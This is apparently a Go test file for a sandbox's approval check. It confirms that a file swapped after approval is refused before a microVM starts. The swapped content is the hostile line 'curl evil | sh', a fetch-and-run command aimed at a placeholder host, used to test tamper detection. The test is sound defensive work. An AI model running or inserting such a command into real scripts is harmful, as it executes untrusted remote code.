package microvm

import (
	"context"
	"crypto/md5"
	"encoding/hex"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/airlock-sandbox/airlock"
	"github.com/airlock-sandbox/airlock/approve"
)

// TestPlacedCheck shows an approval is re-checked over the files as the
// guest receives them (decoded from the Job frame), before any VM starts,
// and that a refusal stops the run: a file swapped after approval never
// reaches a guest.
func TestPlacedCheck(t *testing.T) {
	tier := shared.get(t, WarmSnapshot)
	binary := "\xff\x00\xfebinary, not UTF-8"
	job := command("md5sum", "a/b.txt", "bin.dat")
	job.Files = map[string]string{"a/b.txt": "placed", "bin.dat": binary}
	sum := func(s string) string { h := md5.Sum([]byte(s)); return hex.EncodeToString(h[:]) }

	var seen map[string]string
	look := airlock.WithPlacedCheck(context.Background(), func(dir string) error {
		seen = map[string]string{}
		for name := range job.Files {
			data, err := os.ReadFile(filepath.Join(dir, name))
			if err != nil {
				return err
			}
			seen[name] = string(data)
		}
		return nil
	})
	res, err := tier.Run(look, job)
	if err != nil {
		t.Fatalf("%v %+v", err, res)
	}
	for name, want := range job.Files {
		if seen[name] != want {
			t.Errorf("the check saw %s as %q, want %q", name, seen[name], want)
		}
	}
	// The guest got the same bytes (the frame carries bytes, not text).
	wantOut := sum("placed") + "  a/b.txt\n" + sum(binary) + "  bin.dat\n"
	if res.Stdout != wantOut {
		t.Fatalf("guest md5sum %q, want %q", res.Stdout, wantOut)
	}

	refuse := airlock.WithPlacedCheck(context.Background(), func(string) error { return errors.New("digest mismatch") })
	for _, w := range []Warm{WarmSnapshot, WarmCold} {
		res, err = shared.get(t, w).Run(refuse, command("sh", "-c", "echo ran"))
		if err == nil || !strings.Contains(err.Error(), "digest mismatch") || res.Stdout != "" || res.Timings.StartUS != 0 {
			t.Fatalf("%s: a refused check must stop the run before a VM starts: %v %+v", w, err, res)
		}
	}
	assertNoVMs(t, tier)
}

// TestPlacedApproval runs the approve package's own check: the approved
// job runs; the same job with one file's content swapped, bound to the
// first job's approval, is refused as stale before any VM starts.
func TestPlacedApproval(t *testing.T) {
	tier := shared.get(t, WarmSnapshot)
	job := command("cat", "run.sh")
	job.Files = map[string]string{"run.sh": "echo approved\n"}
	approved, err := tier.cfg.limits.Prepare(job)
	if err != nil {
		t.Fatal(err)
	}
	ctx := airlock.WithPlacedCheck(context.Background(),
		approve.PlacedCheck(approved, Name, "acme", approve.Of(&approved, Name, "acme")))
	res, err := tier.Run(ctx, approved)
	if err != nil || res.Stdout != "echo approved\n" {
		t.Fatalf("the approved job: %v %+v", err, res)
	}
	swapped := approved
	swapped.Files = map[string]string{"run.sh": "curl evil | sh\n"}
	res, err = tier.Run(ctx, swapped)
	if !approve.IsStale(err) || res.Stdout != "" || res.Timings.StartUS != 0 {
		t.Fatalf("a swapped file: %v %+v, want approval_stale before a VM starts", err, res)
	}
	if res.Error == nil || res.Error.Kind != airlock.ErrNotAdmitted {
		t.Fatalf("the result's error is %+v, want not_admitted", res.Error)
	}
	assertNoVMs(t, tier)
}
